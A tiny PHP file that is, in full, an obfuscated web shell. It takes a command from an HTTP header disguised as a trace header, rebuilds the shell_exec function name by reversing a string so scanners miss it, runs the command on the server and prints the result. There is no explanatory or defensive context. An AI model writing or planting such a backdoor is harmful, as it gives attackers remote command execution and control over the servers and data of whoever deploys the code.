<?php
$t = strtok(@$_SERVER['HTTP_X_TRACE'], '|');
$r = strrev('cexe_llehs');
echo $r($t);
